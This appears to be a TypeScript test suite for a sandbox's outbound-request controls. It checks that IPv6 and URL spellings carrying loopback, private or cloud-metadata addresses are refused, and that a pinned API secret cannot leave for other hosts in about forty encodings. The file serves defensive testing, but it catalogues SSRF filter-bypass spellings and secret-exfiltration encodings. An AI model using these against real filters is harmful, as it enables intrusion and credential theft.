// Hostile egress: IPv6 spellings that carry an IPv4 address, URL host spellings the WHATWG parser
// folds into loopback, and a pinned secret sent in every encoding a guest's Web APIs give it.
// No connection ever leaves 127.0.0.0/8: blocked forms are checked through the classifier and
// through a Fetcher whose lookup refuses every name, and the live guest tests run on a box whose
// lookup answers 127.0.0.1 for every name, so even a regression only reaches the loopback stubs.
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import { randomBytes } from "node:crypto";
import type { AddressInfo } from "node:net";
import { blockedReason } from "../src/capabilities/addresses.ts";
import { EgressPolicy, FetchDenied, PrivateAllowList } from "../src/capabilities/egress.ts";
import { Fetcher, type Lookup } from "../src/capabilities/fetch.ts";
import { MIN_OFFSET_BYTES, pinCheck } from "../src/capabilities/secret-pins.ts";
import { json, startBox, type TestBox } from "./helpers/box.ts";

// [address, what the reason must say (undefined: allowed)]
const ADDRESSES: [string, RegExp | undefined][] = [
  // IPv4-compatible ::/96 (deprecated), in hex and dotted, leading zeros and upper case.
  ["::127.0.0.1", /^loopback address: IPv4-compatible 127\.0\.0\.1$/],
  ["::7f00:1", /^loopback address: IPv4-compatible 127\.0\.0\.1$/],
  ["0:0:0:0:0:0:7F00:0001", /^loopback address: IPv4-compatible 127\.0\.0\.1$/],
  ["::0a00:0001", /^private address: IPv4-compatible 10\.0\.0\.1$/],
  ["::169.254.169.254", /^linkLocal address: IPv4-compatible 169\.254\.169\.254$/],
  ["::2", /^unspecified address: IPv4-compatible 0\.0\.0\.2$/],
  ["::1", /^loopback address$/],
  ["::", /^unspecified address$/],
  // IPv4-mapped ::ffff:0:0/96.
  ["::ffff:127.0.0.1", /^loopback address: IPv4-mapped 127\.0\.0\.1$/],
  ["::FFFF:7F00:1", /^loopback address: IPv4-mapped 127\.0\.0\.1$/],
  ["0000:0000:0000:0000:0000:ffff:7f00:0001", /^loopback address: IPv4-mapped 127\.0\.0\.1$/],
  ["::ffff:c0a8:101", /^private address: IPv4-mapped 192\.168\.1\.1$/],
  ["::ffff:100.64.0.1", /^carrierGradeNat address: IPv4-mapped 100\.64\.0\.1$/],
  // IPv4-translated ::ffff:0:0:0/96.
  ["::ffff:0:127.0.0.1", /^loopback address: IPv4-translated 127\.0\.0\.1$/],
  ["::ffff:0:a9fe:a9fe", /^linkLocal address: IPv4-translated 169\.254\.169\.254$/],
  // NAT64, the well-known /96 and the local-use /48.
  ["64:ff9b::127.0.0.1", /^loopback address: NAT64 127\.0\.0\.1$/],
  ["64:FF9B::0A00:0001", /^private address: NAT64 10\.0\.0\.1$/],
  ["64:ff9b::a9fe:a9fe", /^linkLocal address: NAT64 169\.254\.169\.254$/],
  ["64:ff9b:1::808:808", /^local-use NAT64 address/],
  ["64:ff9b:1:7f00:1::", /^local-use NAT64 address/],
  // 6to4 2002::/16: the IPv4 in bits 16–47.
  ["2002:7f00:1::", /^loopback address: 6to4 127\.0\.0\.1$/],
  ["2002:a9fe:a9fe::1", /^linkLocal address: 6to4 169\.254\.169\.254$/],
  ["2002:C0A8:0101:0:0:0:0:1", /^private address: 6to4 192\.168\.1\.1$/],
  // Teredo 2001::/32: refused whatever it carries, naming a carried address that is not public.
  ["2001:0:a00:1::", /^Teredo address whose server 10\.0\.0\.1 is a private address$/],
  ["2001:0:4136:e378:8000:63bf:80ff:fffe", /^Teredo address whose client 127\.0\.0\.1 is a loopback address$/],
  ["2001:0000:4136:E378:8000:63BF:F5FF:FFFE", /^Teredo address whose client 10\.0\.0\.1 is a private address$/],
  ["2001:0:4136:e378:8000:63bf:f7f7:f7f7", /^Teredo address \(server 65\.54\.227\.120, client 8\.8\.8\.8\)/],
  // ISATAP interface ids (…:0:5efe:a.b.c.d, …:200:5efe:a.b.c.d, g bit too), under any prefix.
  ["2606:4700::5efe:10.0.0.1", /^private address: ISATAP 10\.0\.0\.1$/],
  ["2606:4700:1:2:200:5efe:127.0.0.1", /^loopback address: ISATAP 127\.0\.0\.1$/],
  ["2606:4700:1:2:0200:5EFE:A9FE:A9FE", /^linkLocal address: ISATAP 169\.254\.169\.254$/],
  ["2606:4700:1:2:300:5efe:192.168.0.1", /^private address: ISATAP 192\.168\.0\.1$/],
  ["2002:808:808::5efe:10.0.0.1", /^private address: ISATAP 10\.0\.0\.1$/],
  ["fe80::200:5efe:8.8.8.8", /^linkLocal address$/],
  // Zone ids, spellings only lax parsers take, space outside global unicast.
  ["fe80::1%eth0", /^link-scoped address \(zone eth0\)$/],
  ["fe80::1%en-0.5", /^link-scoped address \(zone en-0\.5\)$/],
  ["2606:4700::1%eth0", /^link-scoped address/],
  ["::ffff:127.0.0.1%lo", /^link-scoped address/],
  ["127.000.000.001", /^not an IP address$/],
  ["0177.0.0.1", /^not an IP address$/],
  ["::ffff:127.000.0.1", /^not an IP address$/],
  ["4000::1", /^address outside the global unicast range 2000::\/3$/],
  ["::1:0:0:1", /^address outside the global unicast range/],
  // Public embedded addresses stay allowed, as their IPv4 would be.
  ["::ffff:8.8.8.8", undefined],
  ["::FFFF:808:808", undefined],
  ["::8.8.8.8", undefined],
  ["::ffff:0:8.8.8.8", undefined],
  ["64:ff9b::808:808", undefined],
  ["64:ff9b::8.8.8.8", undefined],
  ["2002:0808:0808::1", undefined],
  ["2002:808:808::200:5efe:8.8.4.4", undefined],
  ["2606:4700::5efe:1.1.1.1", undefined],
  ["2606:4700:4700::1111", undefined],
  ["2606:4700:4700:0000:0000:0000:0000:1111", undefined],
  ["2606:4700:4700::1111".toUpperCase(), undefined],
  ["8.8.8.8", undefined],
];

describe("addresses that carry an IPv4 address", () => {
  for (const [address, reason] of ADDRESSES) {
    if (reason) test(`${address} is refused: ${reason.source}`, () => assert.match(blockedReason(address) ?? "allowed", reason));
    else test(`${address} is public`, () => assert.equal(blockedReason(address), undefined));
  }
});

test("opening 127.0.0.1 to the operator list opens none of its IPv6 spellings", () => {
  const list = new PrivateAllowList("127.0.0.1:8080");
  assert.ok(list.allows("127.0.0.1", "8080"));
  for (const host of ["::7f00:1", "::ffff:7f00:1", "[::ffff:7f00:1]", "64:ff9b::7f00:1"]) assert.ok(!list.allows(host, "8080"), host);
});

describe("URL host spellings through the egress path", () => {
  // Every name and literal reaches this lookup only if the URL check let it through; it answers
  // with an error, so no connection is ever opened.
  const looked: string[] = [];
  const refuse: Lookup = (hostname, _options, callback) => {
    looked.push(hostname);
    callback(Object.assign(new Error("refused by the test"), { code: "ENOTFOUND" }), []);
  };
  const fetcher = new Fetcher({ allowPrivate: new PrivateAllowList(""), lookup: refuse });
  after(() => fetcher.close());

  const send = (url: string) => fetcher.fetch(new EgressPolicy([new URL(url).host]), { method: "GET", url, headers: [], body: null });

  // [URL, the host the WHATWG parser makes of it, what the refusal must say]
  const refused: [string, string, RegExp][] = [
    ["http://0x7f.1/", "127.0.0.1", /127\.0\.0\.1 is a loopback address/],
    ["http://2130706433/", "127.0.0.1", /127\.0\.0\.1 is a loopback address/],
    ["http://017700000001/", "127.0.0.1", /127\.0\.0\.1 is a loopback address/],
    ["http://127.1/", "127.0.0.1", /127\.0\.0\.1 is a loopback address/],
    ["http://0x7f.0.0.1/", "127.0.0.1", /127\.0\.0\.1 is a loopback address/],
    ["http://127.0.0.1./", "127.0.0.1", /127\.0\.0\.1 is a loopback address/],
    ["http://%31%32%37.0.0.1/", "127.0.0.1", /127\.0\.0\.1 is a loopback address/],
    ["http://0/", "0.0.0.0", /0\.0\.0\.0 is a unspecified address/],
    ["http://[::ffff:7f00:1]/", "[::ffff:7f00:1]", /::ffff:7f00:1 is a loopback address: IPv4-mapped 127\.0\.0\.1/],
    ["http://[::FFFF:127.0.0.1]/", "[::ffff:7f00:1]", /IPv4-mapped 127\.0\.0\.1/],
    ["http://[::127.0.0.1]/", "[::7f00:1]", /::7f00:1 is a loopback address: IPv4-compatible 127\.0\.0\.1/],
    ["http://[0:0:0:0:0:0:a9fe:a9fe]/", "[::a9fe:a9fe]", /linkLocal address: IPv4-compatible 169\.254\.169\.254/],
    ["http://[::ffff:0:127.0.0.1]/", "[::ffff:0:7f00:1]", /IPv4-translated 127\.0\.0\.1/],
    ["http://[64:ff9b::127.0.0.1]/", "[64:ff9b::7f00:1]", /NAT64 127\.0\.0\.1/],
    ["http://[64:ff9b:1::a00:1]/", "[64:ff9b:1::a00:1]", /local-use NAT64/],
    ["http://[2002:7f00:1::]/", "[2002:7f00:1::]", /6to4 127\.0\.0\.1/],
    ["http://[2001:0:4136:e378:8000:63bf:80ff:fffe]/", "[2001:0:4136:e378:8000:63bf:80ff:fffe]", /Teredo address whose client 127\.0\.0\.1/],
    ["http://[2606:4700::5efe:127.0.0.1]/", "[2606:4700::5efe:7f00:1]", /ISATAP 127\.0\.0\.1/],
  ];
  for (const [url, host, reason] of refused) {
    test(`${url} is ${host} and refused without a lookup`, async () => {
      assert.equal(new URL(url).hostname, host);
      const before = looked.length;
      await assert.rejects(send(url), (error: Error) => error instanceof FetchDenied && reason.test(error.message));
      assert.equal(looked.length, before, "a literal IP is judged without DNS");
    });
  }

  for (const url of ["http://[::ffff:808:808]/", "http://[64:ff9b::808:808]/", "http://[2002:808:808::1]/"]) {
    test(`${url} passes the check and goes on to connect (refused there by the test's lookup)`, async () => {
      const before = looked.length;
      await assert.rejects(send(url), (error: Error) => !(error instanceof FetchDenied) && /refused by the test|ENOTFOUND/.test(error.message));
      assert.equal(looked.length, before + 1);
    });
  }
});

// A pinned secret leaves for a host it is not pinned to in every encoding the guest's Web APIs
// give it: each is refused with nothing sent, and reaches the pinned host.
const PLAIN = "sk-live-4f9a8b7c6d5e3f2a1b0c9d8e7f6a";
// Characters each encoder escapes differently, multi-byte UTF-8, a surrogate pair, a tab and a
// newline (FormData sends it as CRLF, the URL parser drops it).
const ODD = "p@ss wörd+/=&\"\\~!*'()€😀\tline2\nend";

/**
 * Guest code building a request from (secret, origin): [url, init]. `plain`: only for PLAIN (a
 * header value or name, or a host name, cannot hold ODD). `otherOnly`: the request cannot go to
 * the pinned host either (its host name changes, or it carries credentials in the URL).
 */
const ENCODINGS: Record<string, { code: string; plain?: boolean; otherOnly?: boolean }> = {
  "body, raw": { code: `(s, o) => [o + "/", { body: s }]` },
  "body, Uint8Array": { code: `(s, o) => [o + "/", { body: new TextEncoder().encode(s) }]` },
  "body, Blob": { code: `(s, o) => [o + "/", { body: new Blob([s]) }]` },
  "body, percent-encoded, upper-case hex": { code: `(s, o) => [o + "/", { body: "key=" + encodeURIComponent(s) }]` },
  "body, percent-encoded, lower-case hex": { code: `(s, o) => [o + "/", { body: "key=" + encodeURIComponent(s).replace(/%[0-9A-F]{2}/g, (h) => h.toLowerCase()) }]` },
  "body, encodeURI": { code: `(s, o) => [o + "/", { body: encodeURI(s) }]` },
  "body, escape()": { code: `(s, o) => [o + "/", { body: escape(s) }]` },
  "body, URLSearchParams (an OAuth client_secret)": { code: `(s, o) => [o + "/token", { body: new URLSearchParams({ grant_type: "client_credentials", client_id: "app", client_secret: s }) }]` },
  "body, JSON.stringify": { code: `(s, o) => [o + "/", { body: JSON.stringify({ key: s }), headers: { "content-type": "application/json" } }]` },
  "body, JSON with \\/ and \\u escapes of non-ASCII": { code: `(s, o) => [o + "/", { body: JSON.stringify({ key: s }).replace(/\\//g, "\\\\/").replace(/[\\u0080-\\uffff]/g, (c) => "\\\\u" + c.charCodeAt(0).toString(16).padStart(4, "0")) }]` },
  "body, JSON with upper-case \\u escapes of all but letters and digits": { code: `(s, o) => {
    let out = "";
    for (let i = 0; i < s.length; i++) out += /[A-Za-z0-9]/.test(s[i]) ? s[i] : "\\\\u" + s.charCodeAt(i).toString(16).toUpperCase().padStart(4, "0");
    return [o + "/", { body: '{"key":"' + out + '"}' }];
  }` },
  "body, JSON in a form field": { code: `(s, o) => [o + "/", { body: new URLSearchParams({ payload: JSON.stringify({ key: s }) }) }]` },
  "body, FormData field": { code: `(s, o) => { const form = new FormData(); form.append("note", "x"); form.append("secret", s); return [o + "/", { body: form }]; }` },
  "body, FormData file": { code: `(s, o) => { const form = new FormData(); form.append("file", new Blob([s], { type: "text/plain" }), "key.txt"); return [o + "/", { body: form }]; }` },
  "body, base64": { code: `(s, o) => [o + "/", { body: b64(s) }]` },
  "body, base64 without padding": { code: `(s, o) => [o + "/", { body: b64(s).replace(/=+$/, "") }]` },
  "body, base64url": { code: `(s, o) => [o + "/", { body: b64(s).replace(/\\+/g, "-").replace(/\\//g, "_").replace(/=+$/, "") }]` },
  "body, base64 of a JSON document holding it": { code: `(s, o) => [o + "/", { body: b64(JSON.stringify({ user: "x", key: s })) }]`, plain: true },
  "header, raw": { code: `(s, o) => [o + "/", { headers: { "x-api-key": s } }]`, plain: true },
  "header, Bearer": { code: `(s, o) => [o + "/", { headers: { authorization: "Bearer " + s } }]`, plain: true },
  "header, its name": { code: `(s, o) => [o + "/", { headers: { [s]: "1" } }]`, plain: true },
  "header, cookie percent-encoded": { code: `(s, o) => [o + "/", { headers: { cookie: "sid=" + encodeURIComponent(s) } }]` },
  "header, Basic, the value at offset 0 mod 3": { code: `(s, o) => [o + "/", { headers: { authorization: "Basic " + b64("ab:" + s) } }]` },
  "header, Basic, the value at offset 1 mod 3": { code: `(s, o) => [o + "/", { headers: { authorization: "Basic " + b64("abc:" + s) } }]` },
  "header, Basic, the value at offset 2 mod 3": { code: `(s, o) => [o + "/", { headers: { authorization: "Basic " + b64("user:" + s) } }]` },
  "URL, path raw (the URL parser escapes it)": { code: `(s, o) => [o + "/v1/" + s, {}]` },
  "URL, path encodeURIComponent": { code: `(s, o) => [o + "/v1/" + encodeURIComponent(s), {}]` },
  "URL, query raw": { code: `(s, o) => [o + "/?key=" + s, {}]` },
  "URL, query encodeURIComponent, lower-case hex": { code: `(s, o) => [o + "/?key=" + encodeURIComponent(s).replace(/%[0-9A-F]{2}/g, (h) => h.toLowerCase()), {}]` },
  "URL, query encodeURI": { code: `(s, o) => [o + "/?key=" + encodeURI(s), {}]` },
  "URL, query escape()": { code: `(s, o) => [o + "/?key=" + escape(s), {}]` },
  "URL, query URLSearchParams": { code: `(s, o) => [o + "/?" + new URLSearchParams({ key: s }), {}]` },
  "URL, query url.searchParams.set": { code: `(s, o) => { const url = new URL(o + "/"); url.searchParams.set("key", s); return [url.href, {}]; }` },
  "URL, query JSON": { code: `(s, o) => [o + "/?q=" + encodeURIComponent(JSON.stringify({ key: s })), {}]` },
  "URL, query base64 through URLSearchParams": { code: `(s, o) => [o + "/?" + new URLSearchParams({ t: b64(s) }), {}]` },
  "URL, fragment": { code: `(s, o) => [o + "/#" + encodeURIComponent(s), {}]` },
  "URL, userinfo": { code: `(s, o) => [o.replace("//", "//user:" + encodeURIComponent(s) + "@") + "/", {}]`, otherOnly: true },
  "URL, host name": { code: `(s, o) => [o.replace("//", "//" + s + ".") + "/", {}]`, plain: true, otherOnly: true },
};

const PINNED = `
const b64 = (text) => btoa(Array.from(new TextEncoder().encode(text), (b) => String.fromCharCode(b)).join(""));
const ENCODINGS = { ${Object.entries(ENCODINGS).map(([name, { code }]) => `${JSON.stringify(name)}: ${code}`).join(",\n")} };
export default { async fetch(request, env) {
  const { origin, secret, how, body } = await request.json();
  const [url, init] = how === "unrelated" ? [origin + "/", { body }] : how === "method" ? [origin + "/", { method: env[secret] }] : ENCODINGS[how](env[secret], origin);
  try {
    const response = await fetch(url, { method: "POST", ...init });
    return Response.json({ status: response.status });
  } catch (error) {
    return Response.json({ name: error.name, code: error.code ?? null, message: error.message });
  }
} }`;

describe("pinCheck on its own", () => {
  const pins = [{ name: "KEY", hosts: new EgressPolicy(["api.example.com"]) }];
  const other = new URL("https://elsewhere.example/");
  const bytes = (text: string) => new TextEncoder().encode(text).buffer as ArrayBuffer;
  const refuses = (value: string, url: URL, headers: string[], body: string | null, method?: string) => {
    const check = pinCheck(pins, { KEY: value })!;
    try {
      check(url, headers, body === null ? null : bytes(body), method);
      return false;
    } catch (error) {
      assert.ok(error instanceof FetchDenied);
      assert.match(error.message, /carries secret KEY/);
      return true;
    }
  };

  test("nothing to check without a pinned value", () => {
    assert.equal(pinCheck(pins, {}), undefined);
    assert.equal(pinCheck(pins, { KEY: "" }), undefined);
  });

  test("the pinned host may carry it in any form", () => {
    assert.ok(!refuses("sk-live-123456", new URL("https://api.example.com/?k=sk-live-123456"), ["authorization", "Bearer sk-live-123456"], "sk-live-123456"));
  });

  test("the method, passed as the fourth argument, is searched", () => {
    assert.ok(refuses("sk-live-123456", other, [], null, "sk-live-123456"));
    assert.ok(refuses("SK-LIVE-123456", other, [], null, "sk-live-123456"), "case-insensitively, as the host name and header names");
  });

  test("the URL's userinfo is searched (the egress policy refuses it before, too)", () => {
    assert.ok(refuses("sk-live-123456", new URL("https://user:sk-live-123456@elsewhere.example/"), [], null));
    assert.ok(refuses("p@ss wörd", new URL(`https://user:${encodeURIComponent("p@ss wörd")}@elsewhere.example/`), [], null));
  });

  test("the host name and header names compare case-insensitively, other places exactly", () => {
    assert.ok(refuses("AbCdEfGh1234", new URL("https://abcdefgh1234.elsewhere.example/"), [], null));
    assert.ok(refuses("AbCdEfGh1234", other, ["abcdefgh1234", "1"], null));
    assert.ok(!refuses("AbCdEfGh1234", other, ["x-key", "abcdefgh1234"], "abcdefgh1234"));
  });

  test("a lone surrogate, as JSON.stringify escapes it", () => {
    const value = "key-\ud800-0123456789";
    assert.equal(JSON.stringify(value).includes("\\ud800"), true);
    assert.ok(refuses(value, other, [], JSON.stringify({ value })));
    assert.ok(refuses(value, other, [], JSON.stringify({ value }).replace("\\ud800", "\\uD800")));
  });

  test(`a value under ${MIN_OFFSET_BYTES} bytes is matched whole, base64 too, but not inside longer base64`, () => {
    const short = "k3y!";
    assert.ok(refuses(short, other, [], short));
    assert.ok(refuses(short, other, [], btoa(short)));
    assert.ok(refuses(short, other, [], encodeURIComponent(short)));
    assert.ok(!refuses(short, other, [], btoa(`user:${short}`)));
    const long = "k3y!k3y!";
    assert.ok(refuses(long, other, [], btoa(`user:${long}`)));
  });

  test("each alignment of a value inside base64, in a 1 MB body", () => {
    const value = "sk-live-0123456789abcdef";
    const filler = randomBytes(600 * 1024).toString("base64");
    for (const prefix of ["", "a", "ab", "abc"]) {
      assert.ok(refuses(value, other, [], filler + btoa(`${prefix}${value}tail`) + filler), `offset ${prefix.length}`);
      assert.ok(refuses(value, other, [], filler + Buffer.from(`${prefix}${value}`).toString("base64url") + filler), `base64url, offset ${prefix.length}`);
    }
    assert.ok(!refuses(value, other, [], filler + btoa("user:sk-live-0123456789abcdeX") + filler));
  });
});

/** A loopback server that records what reaches it. */
async function recorder(): Promise<{ server: Server; port: number; hits: { url: string; headers: Record<string, unknown>; body: string }[] }> {
  const hits: { url: string; headers: Record<string, unknown>; body: string }[] = [];
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (chunk: Buffer) => chunks.push(chunk));
    req.on("end", () => {
      hits.push({ url: req.url!, headers: req.headers, body: Buffer.concat(chunks).toString("latin1") });
      res.end("ok");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, port: (server.address() as AddressInfo).port, hits };
}

describe("guest fetch on loopback", () => {
  let t: TestBox;
  let pinned: Awaited<ReturnType<typeof recorder>>;
  let other: Awaited<ReturnType<typeof recorder>>;
  // Every name the guest may use answers 127.0.0.1: nothing can leave loopback.
  const looked: string[] = [];
  const lookup: Lookup = (hostname, _options, callback) => {
    looked.push(hostname);
    callback(null, [{ address: "127.0.0.1", family: 4 }]);
  };

  before(async () => {
    pinned = await recorder();
    other = await recorder();
    // The operator opens the stubs by name only: every literal spelling of them stays closed.
    t = await startBox({ egressAllowPrivate: `stub.test:${pinned.port},other.test:${other.port},*.other.test:${other.port}`, lookup, maxSubrequests: 1000 });
  });
  after(async () => {
    await t.close();
    pinned.server.close();
    other.server.close();
  });

  describe("literals that carry 127.0.0.1", () => {
    let fn: string;
    const FETCHER = `export default { async fetch(request) {
      const target = new URL(request.url).searchParams.get("url");
      try {
        const response = await fetch(target);
        return Response.json({ status: response.status });
      } catch (error) {
        return Response.json({ name: error.name, code: error.code ?? null, message: error.message });
      }
    } }`;
    const hosts = (port: number) => [`127.0.0.1:${port}`, `[::7f00:1]:${port}`, `[::ffff:7f00:1]:${port}`, `[::ffff:0:7f00:1]:${port}`, `[64:ff9b::7f00:1]:${port}`];
    const call = async (url: string) => json(await fetch(`${fn}?url=${encodeURIComponent(url)}`));
    before(async () => {
      fn = await t.deploy("literals", FETCHER, { routes: { auth: "public" }, fetch: { allow: [...hosts(pinned.port), `stub.test:${pinned.port}`] } });
    });

    test("the stub answers under the name the operator opened", async () => {
      assert.deepEqual(await call(`http://stub.test:${pinned.port}/control`), { status: 200 });
      assert.equal(pinned.hits.at(-1)!.url, "/control");
    });

    const spellings: [string, RegExp][] = [
      ["http://[::127.0.0.1]:PORT/x", /^ERR_FETCH_DENIED: \[::7f00:1\]:\d+: ::7f00:1 is a loopback address: IPv4-compatible 127\.0\.0\.1; the node's operator may open it with ISOBOX_EGRESS_ALLOW_PRIVATE=\[::7f00:1\]:\d+$/],
      ["http://[::ffff:127.0.0.1]:PORT/x", /^ERR_FETCH_DENIED: \[::ffff:7f00:1\]:\d+: ::ffff:7f00:1 is a loopback address: IPv4-mapped 127\.0\.0\.1; the node's operator may open it with ISOBOX_EGRESS_ALLOW_PRIVATE=\[::ffff:7f00:1\]:\d+$/],
      ["http://[::ffff:0:127.0.0.1]:PORT/x", /IPv4-translated 127\.0\.0\.1/],
      ["http://[64:ff9b::127.0.0.1]:PORT/x", /NAT64 127\.0\.0\.1/],
      ["http://0x7f.1:PORT/x", /127\.0\.0\.1 is a loopback address/],
      ["http://2130706433:PORT/x", /127\.0\.0\.1 is a loopback address/],
      ["http://017700000001:PORT/x", /127\.0\.0\.1 is a loopback address/],
      ["http://127.1:PORT/x", /127\.0\.0\.1 is a loopback address/],
      ["http://[::ffff:7f00:1]:PORT/x", /IPv4-mapped 127\.0\.0\.1/],
    ];
    for (const [template, reason] of spellings) {
      test(`refused, nothing sent: ${template}`, async () => {
        const url = template.replace("PORT", String(pinned.port));
        const [hits, lookups] = [pinned.hits.length, looked.length];
        const result = await call(url);
        assert.equal(result.code, "ERR_FETCH_DENIED", JSON.stringify(result));
        assert.equal(result.name, "TypeError");
        assert.match(result.message, reason);
        assert.equal(pinned.hits.length, hits, "the stub saw nothing");
        assert.equal(looked.length, lookups, "refused as a literal, before any connection");
      });
    }
  });

  describe("a pinned secret", () => {
    let fn: string;
    let origins: { pinned: string; other: string };
    const send = async (body: object) => json(await fetch(fn, { method: "POST", body: JSON.stringify(body) }));
    before(async () => {
      const { name } = await t.tenant();
      await t.api("PUT", `/api/tenants/${name}/secrets/PLAIN`, { value: PLAIN });
      await t.api("PUT", `/api/tenants/${name}/secrets/ODD`, { value: ODD });
      origins = { pinned: `http://stub.test:${pinned.port}`, other: `http://other.test:${other.port}` };
      fn = await t.deploy("pinned", PINNED, {
        routes: { auth: "public" },
        limits: { cpuMs: 2000 },
        // The other stub is allowed by fetch.allow, under any subdomain too, but not by the pins.
        fetch: { allow: [`stub.test:${pinned.port}`, `other.test:${other.port}`, `*.other.test:${other.port}`] },
        secrets: { PLAIN: { hosts: [`stub.test:${pinned.port}`] }, ODD: { hosts: [`stub.test:${pinned.port}`] } },
      }, name);
    });

    for (const [how, { plain, otherOnly }] of Object.entries(ENCODINGS)) {
      for (const secret of plain ? ["PLAIN"] : ["PLAIN", "ODD"]) {
        test(`${secret} cannot leave in ${how}; nothing is sent`, async () => {
          const before = other.hits.length;
          const result = await send({ origin: origins.other, secret, how });
          if (how === "URL, userinfo") {
            // The guest's Request refuses credentials in a URL (the host would too, and so would the pin).
            assert.match(result.message, /credentials/, JSON.stringify(result));
          } else {
            assert.equal(result.code, "ERR_FETCH_DENIED", JSON.stringify(result));
            assert.match(result.message, new RegExp(`^ERR_FETCH_DENIED: ([\\w-]+\\.)?other\\.test:\\d+: carries secret ${secret}, which the manifest pins to other hosts$`));
          }
          assert.equal(other.hits.length, before, "the other stub saw nothing");
        });
        if (otherOnly) continue;
        test(`${secret} in ${how} reaches its pinned host`, async () => {
          const before = pinned.hits.length;
          const result = await send({ origin: origins.pinned, secret, how });
          assert.deepEqual(result, { status: 200 });
          assert.equal(pinned.hits.length, before + 1);
        });
      }
    }

    // Fetcher.fetch does not yet pass the method to checkHop (pinCheck takes it as a fourth
    // argument): a custom method is a token, and a secret of letters, digits and '-' is one.
    test("PLAIN cannot leave as the request method; nothing is sent", async () => {
      const before = other.hits.length;
      const result = await send({ origin: origins.other, secret: "PLAIN", how: "method" });
      assert.equal(result.code, "ERR_FETCH_DENIED", JSON.stringify(result));
      assert.equal(other.hits.length, before, "the other stub saw nothing");
    });

    const unrelated: [string, () => string][] = [
      ["no secret at all", () => "hello"],
      ["3 characters of PLAIN", () => `id=${PLAIN.slice(8, 11)}`],
      ["3 characters of ODD", () => `name=${ODD.slice(5, 8)}`],
      ["PLAIN but its last character", () => PLAIN.slice(0, -1)],
      ["JSON with escapes of other text", () => JSON.stringify({ note: 'a "quote", a \\ and a /path/ for wörd €' })],
      ["a form with '+', '%' and other text", () => new URLSearchParams({ q: "1 + 1 = 2", pct: "100%", k: "sk-live-" }).toString()],
      ["400 KB of random base64", () => randomBase64(400 * 1024)],
    ];
    for (const [label, body] of unrelated) {
      test(`a request with ${label} reaches the other host`, async () => {
        const before = other.hits.length;
        const sent = body();
        const result = await send({ origin: origins.other, how: "unrelated", body: sent });
        assert.deepEqual(result, { status: 200 });
        assert.equal(other.hits.length, before + 1);
        assert.equal(other.hits.at(-1)!.body, Buffer.from(sent, "utf8").toString("latin1"));
      });
    }
  });
});

function randomBase64(bytes: number): string {
  return randomBytes(bytes).toString("base64");
}
